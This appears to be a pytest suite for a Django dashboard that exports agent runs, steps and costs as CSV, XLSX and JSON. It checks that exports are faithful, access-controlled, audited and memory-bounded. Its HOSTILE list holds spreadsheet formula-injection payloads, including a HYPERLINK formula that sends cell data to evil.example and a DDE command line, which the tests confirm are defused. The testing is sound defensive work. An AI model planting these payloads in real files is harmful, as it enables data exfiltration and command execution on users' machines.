"""Files that are taken out: they say what the pages say, and do nothing where they are opened."""

import datetime as dt
import io
import json
import re
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import User
from django.db import DatabaseError, connection
from django.test import AsyncClient, Client
from django.utils import timezone

from dashboard.audit.models import AuditEntry
from dashboard.exports import cells
from runs.models import Step, UsageEntry
from tests.dashboard.files import fetch
from tests.dashboard.links import full_run, share
from tests.factories import make_agent, make_entries, make_run, make_runs, make_steps
from tests.markup import words

pytestmark = pytest.mark.django_db

FILES = ("steps.csv", "steps.xlsx", "costs.csv", "costs.xlsx", "record.json")
HOSTILE = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1"),
    *("\u200b=1", "＝1+1", "＋1", "－1", "＠A1", "−1", "'=1", "'plain", "%0A=1", "|calc"),
    '=HYPERLINK("https://evil.example/?"&A1,"Total")',
    "=cmd|' /C calc'!A0",
)
HARMLESS = ("1", "a=1", "Said.", "", "…", '"=1"', "http://x.example/", "(5)", "$5")


def sheet(body: bytes) -> list[list[tuple[str, str] | None]]:
    """Of a workbook's one sheet, each cell as its type ("inlineStr", "n") and its text."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        xml = book.read("xl/worksheets/sheet1.xml")
        assert not [name for name in book.namelist() if "rels" in name and "sheet" in name]
    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml
    name = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    found = []
    for row in ElementTree.fromstring(xml).iter(f"{name}row"):
        held: dict[int, tuple[str, str]] = {}
        for cell in row.iter(f"{name}c"):
            letters = re.sub(r"\d", "", cell.attrib["r"])
            at = 0
            for letter in letters:
                at = at * 26 + ord(letter) - 64
            text = "".join(
                part.text or "" for part in cell.iter() if part.tag in (f"{name}t", f"{name}v")
            )
            held[at - 1] = (cell.attrib.get("t", "n"), text)
        found.append([held.get(at) for at in range(max(held) + 1)])
    return found


# What is exported is what is shown ---------------------------------------------------------------


def timeline_lines(client: Client, address: str) -> Iterator[tuple[str, str]]:
    """Position and words of each line of the timeline, turned to its end."""
    headers: dict[str, str] = {}
    while address:
        html = client.get(address, headers=headers).content.decode()
        for item in re.findall(r'<li id="s\d.*?</li>', html, re.DOTALL):
            caption = re.search(r'<span class="what">(.*?)</span>', item, re.DOTALL)
            yield re.findall(r"s(\d+)", item)[0], words(caption[1]) if caption else ""
        later = re.search(r'<li class="turn later" hx-get="([^"]+)"', html)
        address = later[1].replace("&amp;", "&") if later else ""
        headers = {"HX-Request": "true"}


def test_the_table_of_steps_has_the_lines_of_the_timeline(viewer: User, viewer_client: Client):
    run = make_run("completed", run_id="run_a")
    make_steps(run, 230)
    gone = run.steps.get(position=120)
    Step.objects.filter(pk=gone.pk).update(vanished_at=timezone.now())
    for query in ("", "?type=tool_call", "?type=tool_call&type=output&tool=bash", "?gone=1"):
        first = "/runs/run_a/" + (query or "?at=1")
        shown = list(timeline_lines(viewer_client, first))
        table = fetch(viewer, f"/runs/run_a/export/steps.csv{query}").table
        assert [row["Step"] for row in table] == [position for position, _ in shown], query
        for row, (position, caption) in zip(table, shown, strict=True):
            if row["Type"] == "tool_call":
                assert words(caption).startswith(row["What it did"]), position
    assert len(table) == 1
    assert table[0]["No longer reported since (UTC)"]


def test_the_table_of_costs_has_the_rows_of_the_cost_page(viewer: User, viewer_client: Client):
    run = make_run(run_id="run_a")
    make_entries(run, 260)
    odd: dict[int, dict[str, Any]] = {
        1: {"cost_micros": None},
        2: {"cost_micros": 0},
        3: {"cost_micros": 123_456_789_012_345},
    }
    odd |= {4: {"service": ""}, 5: {"service": None}, 6: {"prompt_tokens": 0}}
    odd |= {7: {"cost_micros": -5}, 8: {"status_code": 503}}
    for position, fields in odd.items():
        UsageEntry.objects.filter(run=run, position=position).update(**fields)
    shown = []
    for at in (1, 251):
        html = viewer_client.get(f"/runs/run_a/cost/?at={at}").content.decode()
        for row in re.findall(r'<tr id="e\d+".*?</tr>', html, re.DOTALL):
            found = re.findall(r"<td.*?</td>", row, re.DOTALL)
            money = re.search(r'class="money" value="(-?\d+)"', found[-1])
            dashes = [words(found[at]).replace("–", "") for at in (3, 8)]
            service, prompt = (text.replace(",", "") for text in dashes)
            shown.append((words(found[0]), service, prompt, money[1] if money else ""))
    got = fetch(viewer, "/runs/run_a/export/costs.csv")
    table = got.table
    columns = ("Entry", "Service", "Prompt tokens", "Cost (micro-dollars)")
    told = [tuple(row[name] for name in columns) for row in table]
    empty_as_shown = [(*row[:1], "empty", *row[2:]) if row[0] == "4" else row for row in told]
    assert empty_as_shown == shown
    assert [row["Cost (US$)"] for row in table[:3]] == ["", "0.000000", "123456789.012345"]
    assert table[6]["Cost (US$)"] == "-0.000005"
    lines = got.body.decode("utf-8-sig").split("\r\n")
    assert ',"api","","POST",' in lines[4]  # empty
    assert ',"llm",,"POST",' in lines[5]  # absent
    cells_of_two = sheet(fetch(viewer, "/runs/run_a/export/costs.xlsx").body)
    assert cells_of_two[2][12] == ("n", "0")
    assert cells_of_two[1][12] is None
    assert cells_of_two[4][3] == ("inlineStr", "")
    assert cells_of_two[5][3] is None
    assert [row[12][1] for row in cells_of_two[3:] if row[12]][:1] == ["123456789012345"]


def list_rows(client: Client, query: str) -> Iterator[tuple[str, str]]:
    """Id and micro-dollars ("" if none are told) of each row of the list, page after page."""
    address = f"/runs/?{query}"
    while address:
        html = client.get(address).content.decode()
        for row in re.findall(r'<tr id="run-\d+".*?</tr>', html, re.DOTALL):
            money = re.search(r'class="money" value="(-?\d+)"', row)
            yield re.findall(r'href="/runs/([\w-]+)/"', row)[0], money[1] if money else ""
        following = re.search(r'rel="next" href="([^"]+)"', html)
        address = f"/runs/{following[1].replace('&amp;', '&')}" if following else ""


@pytest.mark.parametrize(
    "query", ["", "sort=cost", "status=running&status=completed&sort=longest", "q=depositions"]
)
def test_the_list_as_a_file_has_the_rows_of_all_its_pages(
    query: str, viewer: User, viewer_client: Client
):
    make_agent()
    make_runs(70)
    make_runs(3, status="running")
    make_run("completed", summary_cost_micros=0, prompt="Read the depositions")
    make_run("failed", summary_cost_micros=1)
    make_run("queued", prompt=None)
    shown = list(list_rows(viewer_client, query))
    # Where the page stands makes no difference.
    table = fetch(viewer, f"/runs/export/runs.csv?{query}&after=nonsense").table
    assert [(row["Run"], row["Cost (micro-dollars)"]) for row in table] == shown
    assert {row["Agent"] for row in table} == {"Contract Reviewer"}
    page = viewer_client.get(f"/runs/export/?{query}").content.decode()
    assert f'<b class="num">{len(shown)}</b>' in page
    if query:
        assert (
            f"/runs/export/?{query.replace('&', '&amp;')}"
            in viewer_client.get(f"/runs/?{query}").content.decode()
        )


def test_a_run_as_json_is_its_record_as_it_was_sent(viewer: User):
    run = full_run(run_id="run_a", unreported=["workflowId"])
    said = '{"b": 123456789012345678901234567890.10, "a": [1e400, "\\u2028"], "b": null}'
    Step.objects.filter(run=run, position=2).update(tool_input=said, tool_output="null")
    Step.objects.filter(run=run, position=1).update(tool_input="{not json")
    body = fetch(viewer, "/runs/run_a/export/record.json").body
    told = json.loads(body)
    assert list(told) == ["format", "exported_at", "run", "steps", "entries", "read"]
    assert told["read"] == {"steps": 3, "entries": 2, "version": run.version}
    assert f'"input":{said}'.encode() in body
    assert told["steps"][1]["output"] is None
    assert "output" not in told["steps"][0]
    assert told["steps"][0]["input_text"] == "{not json"
    assert told["run"]["cost_micros"] == run.cost_micros
    assert told["run"]["unreported"] == ["workflowId"]
    assert told["run"]["logs"] == [["runner", "started"]]
    assert told["entries"][0]["metadata"] == {"tier": 1}
    assert told["entries"][1]["prompt_tokens"] is None


def test_a_run_without_anything_is_exported_as_such(viewer: User):
    make_run("queued", run_id="run_a", prompt=None, agent_id=None)
    for name in ("steps.csv", "costs.csv"):
        assert len(fetch(viewer, f"/runs/run_a/export/{name}").rows) == 1, name
    told = json.loads(fetch(viewer, "/runs/run_a/export/record.json").body)
    assert (told["steps"], told["entries"], told["run"]["agent_name"]) == ([], [], None)


# Nothing in a file acts --------------------------------------------------------------------------


def test_no_text_becomes_a_formula_and_each_can_be_had_back(viewer: User):
    run = make_run(run_id="run_a", agent_id="=agent()")
    texts = (*HOSTILE, *HARMLESS)
    make_steps(run, len(texts), type="output")
    for position, text in enumerate(texts, 1):
        Step.objects.filter(run=run, position=position).update(content=text, tool_name=text)
    table = fetch(viewer, "/runs/run_a/export/steps.csv").table
    for text, row in zip(texts, table, strict=True):
        for cell in (row["Content"], row["Tool"]):
            assert cell == (f"'{text}" if text in HOSTILE else text)
            assert cell.removeprefix("'") == text or text.startswith("'")
    assert fetch(viewer, "/runs/export/runs.csv").table[0]["Agent id"] == "'=agent()"
    in_book = [row[10] for row in sheet(fetch(viewer, "/runs/run_a/export/steps.xlsx").body)[1:]]
    # XML knows no carriage return of its own; the workbook writes it as _x000D_.
    told = [(cell[0], cell[1].replace("_x000D_", "\r")) for cell in in_book if cell]
    assert told == [("inlineStr", text) for text in texts]


def test_numbers_stay_numbers_and_times_are_utc(viewer: User):
    east = dt.timezone(dt.timedelta(hours=5))
    started = dt.datetime(2026, 3, 1, 12, 0, 0, 250_000, east)
    run = make_run(run_id="run_a", started_at=started, created_at=started)
    make_steps(run, 2, type="tool_call", tool_name="=x", duration_ms=-7, timestamp=started)
    body = fetch(viewer, "/runs/run_a/export/steps.csv").body.decode()
    assert '"2026-03-01 07:00:00.250",-7,' in body
    row = sheet(fetch(viewer, "/runs/run_a/export/steps.xlsx").body)[1]
    assert row[6] == ("n", "-7")
    kind, serial = row[5] or ("", "")
    days = (
        started.astimezone(dt.UTC).replace(tzinfo=None) - dt.datetime(1899, 12, 30)
    ) / dt.timedelta(1)
    assert kind == "n"
    assert abs(float(serial) - days) < 1e-8


def test_what_excel_cannot_hold_is_cut_and_says_so(viewer: User):
    run = make_run(run_id="run_a")
    make_steps(run, 1, type="output", content="x" * 40_000)
    _, text = sheet(fetch(viewer, "/runs/run_a/export/steps.xlsx").body)[1][10] or ("", "")
    assert len(text) == 32_767
    assert text.endswith("[cut here by Excel's limit: 40,000 characters in all, whole in the CSV]")
    assert fetch(viewer, "/runs/run_a/export/steps.csv").table[0]["Content"] == "x" * 40_000


@pytest.mark.same_on_either
def test_nothing_unseen_hides_the_beginning_of_a_formula():
    for number in range(0x110000):
        if unicodedata.category(chr(number)) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            assert cells.as_text(f"{chr(number)}=1")[0] == "'", hex(number)


def test_every_file_is_an_attachment_that_can_do_nothing(viewer: User):
    full_run(run_id="run_a")
    addresses = [f"/runs/run_a/export/{name}" for name in FILES] + ["/runs/export/runs.csv"]
    for address in addresses:
        got = fetch(viewer, address)
        assert got.status == 200
        assert got.headers["Content-Disposition"].startswith('attachment; filename="')
        assert got.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
        assert got.headers["X-Content-Type-Options"] == "nosniff"
        assert got.headers["Cache-Control"] == "private, no-store"
        assert "text/html" not in got.headers["Content-Type"]


# Who may, and what is noted ----------------------------------------------------------------------


def test_only_who_may_see_runs_may_take_them_out(viewer: User, member: User):
    run = full_run(run_id="run_a")
    nobody = User.objects.create_user("nora", password="x")
    pages = ["/runs/export/", "/runs/export/runs.csv", "/exports/0123456789abcdef/"]
    pages += [f"/runs/run_a/export/{name}" for name in ("", *FILES)]
    for address in pages:
        assert fetch(None, address).headers["Location"].startswith("/accounts/login/")
        assert fetch(nobody, address).status == 403
    token = share(run, member)
    holder = Client()
    for name in ("", *FILES):
        assert holder.get(f"/s/{token}/export/{name}").status_code == 404
    holder.force_login(viewer)
    assert holder.get("/runs/run_nowhere/export/steps.csv").status_code == 404
    assert holder.get("/runs/run_nowhere/export/").status_code == 404
    assert holder.get("/runs/run_a/export/steps.pdf").status_code == 404


def test_an_export_is_written_down_before_it_leaves(viewer: User, member_client: Client):
    full_run(run_id="run_a")
    fetch(viewer, "/runs/run_a/export/steps.csv?type=output")
    fetch(viewer, "/runs/export/runs.csv?status=failed&q=secret")
    of_list, of_run = AuditEntry.objects.filter(act="export").order_by("-number")
    assert (of_run.name, of_run.run, of_run.page) == ("violet", "run_a", "export-steps-csv")
    assert "type=output" in of_run.detail
    assert (of_list.page, of_list.run) == ("export-runs-csv", "")
    assert "q=secret&status=failed" in of_list.detail
    seen = words(member_client.get("/runs/run_a/seen/").content.decode())
    assert "all steps as CSV" in seen


# Progress and memory -----------------------------------------------------------------------------


def test_the_page_tells_how_far_its_files_are(viewer: User, viewer_client: Client, member: User):
    run = full_run(run_id="run_a")
    page = viewer_client.get("/runs/run_a/export/").content.decode()
    token = re.findall(r"steps\.csv\?progress=(\w+)", page)[0]
    asked = f"/exports/{token}/"
    before = viewer_client.get(asked).content.decode()
    assert "every 1s" in before
    assert "rows" not in before
    assert "every 1s" not in viewer_client.get(f"{asked}?look=15").content.decode()
    fetch(viewer, f"/runs/run_a/export/steps.csv?progress={token}")
    fetch(viewer, f"/runs/run_a/export/costs.xlsx?progress={token}")
    html = viewer_client.get(asked).content.decode()
    told = words(html)
    assert f"run_a-steps.csv ✓ complete : {run.step_count} rows" in told
    assert f"run_a-costs.xlsx ✓ complete : {run.entry_count} rows" in told
    assert "every 1s" not in html
    other = Client()
    other.force_login(member)
    assert "complete" not in other.get(asked).content.decode()
    assert viewer_client.get("/exports/nonsense/").status_code == 404


def test_a_file_that_breaks_off_is_no_whole_file(viewer: User, viewer_client: Client):
    """An error in the middle is passed on to the server, which then cuts the connection."""
    run = make_run(run_id="run_a")
    make_steps(run, 250)
    token = "0123456789abcdef"
    had: list[bytes] = []

    def lost(execute: Any, sql: str, *rest: Any) -> Any:
        if len(had) > 1 and "runs_step" in sql:
            raise DatabaseError("the database has gone away")
        return execute(sql, *rest)

    async def some() -> None:
        client = AsyncClient()
        await client.aforce_login(viewer)
        answer: Any = await client.get(f"/runs/run_a/export/steps.csv?progress={token}")
        async for chunk in answer:
            had.append(chunk)  # noqa: PERF401 - each as it comes

    with connection.execute_wrapper(lost), pytest.raises(DatabaseError):
        async_to_sync(some)()
    told = words(viewer_client.get(f"/exports/{token}/").content.decode())
    assert "run_a-steps.csv ✕ broke off after 100 rows." in told


@pytest.mark.same_on_either
def test_a_long_export_holds_a_small_part_of_it_in_memory(viewer: User):
    run = make_run(run_id="run_a")
    make_steps(run, 150, type="tool_call")
    Step.objects.filter(run=run).update(tool_output=json.dumps("x" * 200_000))
    sizes = {}

    async def through(name: str) -> None:
        client = AsyncClient()
        await client.aforce_login(viewer)
        answer: Any = await client.get(f"/runs/run_a/export/{name}")
        sizes[name] = sum([len(chunk) async for chunk in answer])

    for name in ("steps.csv", "record.json"):
        async_to_sync(through)("costs.csv")
        tracemalloc.start()
        async_to_sync(through)(name)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert sizes[name] > 30_000_000
        assert peak < 20_000_000, (name, peak)
